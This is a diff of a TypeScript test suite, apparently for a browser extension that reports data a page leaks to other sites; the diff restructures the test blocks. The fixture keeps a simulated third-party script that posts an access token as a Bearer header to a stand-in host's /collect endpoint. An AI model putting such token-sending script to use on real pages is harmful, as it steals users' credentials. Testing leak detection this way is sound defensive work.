@@ -1,3 +1,4 @@
+import type { Page } from 'puppeteer-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Report } from '../../../src/engine/report/report.js';
 import { useExtension } from '../../support/extension.js';
@@ -11,39 +12,42 @@ const SCRIPT = `
   const collect = new URL('/collect', location.href.replace('a.test', 'c.test'));
   fetch(collect, { method: 'POST', headers: { authorization: 'Bearer ' + token } }).then(() => { document.title = 'sent'; });`;
 
-describe.each([true, false])(
-  'what a page lets out to other sites (the panel is open: %s)',
-  (panel) => {
-    let lab: Lab;
-    let tabId: number;
-    const extension = useExtension(async () => {
-      lab = await startLab({
-        '/page': (_, response) => {
-          response.setHeader('referrer-policy', 'unsafe-url');
-          html(response, `<script src="${lab.at('b.test')}/third-party.js"></script>`);
-        },
-        '/third-party.js': (_, response) => {
-          response.setHeader('content-type', 'text/javascript');
-          response.end(SCRIPT);
-        },
-        '/collect': (_, response) => {
-          response.setHeader('access-control-allow-origin', '*');
-          response.setHeader('access-control-allow-headers', 'authorization');
-          response.end('noted');
-        },
-      });
-      return { hostRules: HOST_RULES };
+describe('what a page lets out to other sites', () => {
+  let lab: Lab;
+  const extension = useExtension(async () => {
+    lab = await startLab({
+      '/page': (_, response) => {
+        response.setHeader('referrer-policy', 'unsafe-url');
+        html(response, `<script src="${lab.at('b.test')}/third-party.js"></script>`);
+      },
+      '/third-party.js': (_, response) => {
+        response.setHeader('content-type', 'text/javascript');
+        response.end(SCRIPT);
+      },
+      '/collect': (_, response) => {
+        response.setHeader('access-control-allow-origin', '*');
+        response.setHeader('access-control-allow-headers', 'authorization');
+        response.end('noted');
+      },
     });
-    afterAll(() => lab.close());
+    return { hostRules: HOST_RULES };
+  });
+  afterAll(() => lab.close());
+
+  describe.each([false, true])('the panel is open: %s', (panel) => {
+    let page: Page;
+    let tabId: number;
 
     beforeAll(async () => {
-      const page = await extension().browser.newPage();
+      page = await extension().browser.newPage();
       await page.goto(lab.at('a.test'));
       tabId = await extension().tabIdOf(page);
       if (panel) await extension().openPanel(page);
       await page.goto(`${lab.at('a.test')}/page?access_token=${TOKEN}`);
       await page.waitForFunction(() => document.title === 'sent');
     });
+
+    afterAll(() => page.close());
 
     const exposures = ({ events }: Report) =>
       events
@@ -75,5 +79,5 @@ describe.each([true, false])(
       const told = byScript(seen).map(({ script, locator }) => [script, locator]);
       expect(told).toEqual(panel ? [[lab.at('b.test'), 'authorization']] : []);
     });
-  },
-);
+  });
+});
